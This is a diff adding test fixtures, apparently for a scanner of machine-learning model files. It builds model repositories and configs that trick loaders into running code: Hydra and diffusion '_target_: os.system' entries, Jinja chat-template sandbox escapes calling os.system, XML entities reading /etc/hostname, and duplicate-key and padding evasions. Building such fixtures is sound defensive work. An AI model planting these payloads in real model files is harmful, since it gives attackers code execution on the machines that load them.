@@ -1,0 +1,82 @@
+"""Vectors that are documents and folders: what loaders of whole repositories import, read or run by what stands in one of their files."""
+
+import gzip
+import json
+
+from attack import COMMAND, Table
+from attack_files import of_bytes, zip_of
+from attack_pickles import SYSTEM
+
+ATTACKS = Table()
+DATA, TEXT = ATTACKS.data, ATTACKS.text
+CODE = ("code", "malicious")
+NEVER_CLEAN = ("code", "malicious", "unreadable")
+PYTHON = "open('fired', 'w')\nclass Evil: pass\n"
+
+
+def repository(name, files, verdicts=CODE, links=()):
+    @ATTACKS.made(f"code-by-reference/folder_{name}", verdicts)
+    def _(folder):
+        root = folder / "repository"
+        for path, data in files.items():
+            (root / path).parent.mkdir(parents=True, exist_ok=True)
+            (root / path).write_bytes(data if isinstance(data, bytes) else data.encode())
+        (folder / "hidden").mkdir()
+        (folder / "hidden" / "model.pkl").write_bytes(SYSTEM)
+        for link, target in links:
+            (root / link).symlink_to(target)
+        return root
+
+
+def mlflow(**python):
+    lines = "".join(f"    {key}: {value}\n" for key, value in {"loader_module": "mlflow.sklearn", "python_version": "3.11.2", **python}.items())
+    return f"flavors:\n  python_function:\n{lines}mlflow_version: 3.17.2\nmodel_uuid: a\n"
+
+
+repository("mlflow_models_from_code", {"MLmodel": mlflow(loader_module="mlflow.pyfunc.model", model_code_path="m.py"), "m.py": PYTHON})
+repository("mlflow_code", {"MLmodel": mlflow(code="code", model_path="model.pkl"), "code/lightgbm/sklearn.py": PYTHON, "model.pkl": b"\x80\x02clightgbm.sklearn\nLGBMClassifier\n)\x81}b."})
+repository("mlflow_in_git", {"MLmodel": mlflow(model_path=".git/model.pkl"), ".git/model.pkl": SYSTEM}, ("malicious",))
+repository("mlflow_in_an_object_of_git", {"MLmodel": mlflow(model_path=".git/objects/ab/cd"), ".git/objects/ab/cd": gzip.compress(SYSTEM)}, ("malicious",))
+repository("mlflow_behind_a_link", {"MLmodel": mlflow(model_path="data/model.pkl")}, NEVER_CLEAN, [("data", "../hidden")])
+MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Router"}]
+ROUTER = {"types": {"query_0_X": "evilmod.Evil"}, "structure": {"query": ["query_0_X"]}, "parameters": {}}
+repository("router", {"modules.json": json.dumps(MODULES), "router_config.json": json.dumps(ROUTER), "evilmod.py": PYTHON})
+repository("modules_twice", {"modules.json": '[{"idx": 0, "name": "0", "path": "", "type": "evilmod.Evil", "name": "0"}]', "evilmod.py": PYTHON})
+repository("modules_half_a_surrogate", {"modules.json": '[{"idx": 0, "name": "\\ud800", "path": "", "type": "evilmod.Evil"}]', "evilmod.py": PYTHON})
+repository("modules_byte_order_mark", {"modules.json": '\ufeff[{"idx": 0, "name": "0", "path": "", "type": "evilmod.Evil"}]', "evilmod.py": PYTHON})
+PIPELINE = {"_class_name": "DDPMPipeline", "_diffusers_version": "0.30.0", "unet": ["my_unet", "Evil"], "scheduler": ["diffusers", "DDPMScheduler"]}
+repository("diffusers_component", {"model_index.json": json.dumps(PIPELINE), "unet/my_unet.py": PYTHON, "unet/config.json": "{}", "model.safetensors": of_bytes(b"a")})
+TEXT("code-by-reference/cross_encoder", json.dumps({"model_type": "bert", "sentence_transformers": {"activation_fn": "evilmod.run"}}), "config.json", CODE)
+TEXT("code-by-reference/kernel_by_part", json.dumps({"model_type": "llava", "attn_implementation": {"text_config": "who/kernel", "vision_config": "eager"}}), "config.json", CODE)
+TEXT("code-by-reference/kernel_of_experts", json.dumps({"model_type": "llama", "experts_implementation": "who/kernel"}), "config.json", CODE)
+TEXT("code-by-reference/latent_diffusion", f"model:\n  target: os.system\n  params:\n    command: {COMMAND}\n", "v1-inference.yaml")
+TEXT("code-by-reference/latent_diffusion_json", json.dumps({"model": {"target": "os.system", "params": {"command": COMMAND}}}), "inference.json")
+TEXT("code-by-reference/lightning_cli", "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [touch, fired]\n", "config.yaml")
+TEXT("code-by-reference/target_of_two", '{"_target_": "torch.nn.Linear", "_target_": "os.system", "command": "' + COMMAND + '"}', "conf.json", fire="hydra")
+TEXT("code-by-reference/target_of_two_backwards", '{"_target_": "os.system", "command": "' + COMMAND + '", "_target_": "torch.nn.Linear"}', "conf.json")
+DATA("code-by-reference/target_in_a_large_file", lambda: b'{"_target_":"os.system",' + b" " * 100_000_001 + b'"command":"' + COMMAND.encode() + b'"}', "conf.json", NEVER_CLEAN, fire="hydra")
+SCHEMA = '{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 2, "protocol": 2}'
+DATA("code-by-reference/skops_twice", lambda: zip_of([("schema.json", SCHEMA)]), "model.skops")
+DATA("code-by-reference/torchserve_twice", lambda: zip_of([("MAR-INF/MANIFEST.json", '{"model": {"handler": "evil.py:handle"}, "x": 1, "x": 2}'), ("evil.py", PYTHON)]), "m.mar", CODE)
+ENTITY = '<!DOCTYPE a [<!ENTITY b "<c/>"><!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
+TEXT("code-by-reference/xml_entity_behind_a_bracket", f'<?xml version="1.0"?>{ENTITY}', "model.pmml")
+TEXT("code-by-reference/xml_entity_behind_a_line", f"\n{ENTITY}", "model.pmml")
+TEXT("code-by-reference/xml_entity_of_parameters", '<!DOCTYPE a [<!ENTITY % x PUBLIC "-" "http://example.org/x">%x;]><a/>', "model.pmml")
+SPECIFICATION = {"class_name": "__typespec__", "spec_name": "Spec", "module": "evilmod", "registered_name": None, "config": []}
+DATA("nested-config/keras_type_specification", lambda: zip_of([("metadata.json", '{"keras_version": "2.15.0"}'), ("config.json", json.dumps(SPECIFICATION))]), "model.keras", NEVER_CLEAN)
+
+
+@ATTACKS.made("nested-config/keras_json_twice", CODE)
+def _(folder):
+    import keras
+
+    layer = keras.layers.Lambda(eval("lambda x: x"), output_shape=(2,))
+    (folder / "model.json").write_text(keras.Sequential([keras.Input((2,)), layer]).to_json()[:-1] + ', "x": 1, "x": 2}')
+    return folder / "model.json"
+
+
+for _name, _cut in {"slice": "'__init__x'[:8]", "strip": "'__init__x'.strip('x')", "trim": "'__init__x'|trim('x')", "lower": "'__INIT__x'.lower()[:8]"}.items():
+    _made = f"{{% set k={_cut} %}}{{% set g='__globals__x'[:11] %}}{{{{ cycler[k][g]['os'].system('{COMMAND}') }}}}"
+    TEXT(f"nested-config/jinja_{_name}", _made, "chat_template.jinja", CODE, "" if _name == "trim" else "jinja")
+TEXT("nested-config/jinja_walked", f"{{% for k in ['__init__x'] %}}{{{{ cycler[k[:8]]['__globals__'] }}}}{{% endfor %}}", "chat_template.jinja", CODE)
+TEXT("nested-config/jinja_by_variable", f"{{% set a = '__init__x' %}}{{% set b = '__globals__x' %}}{{% set k = a[:8] %}}{{% set g = b[:11] %}}{{{{ cycler[k][g]['os'].system('{COMMAND}') }}}}", "chat_template.jinja", CODE, "jinja")
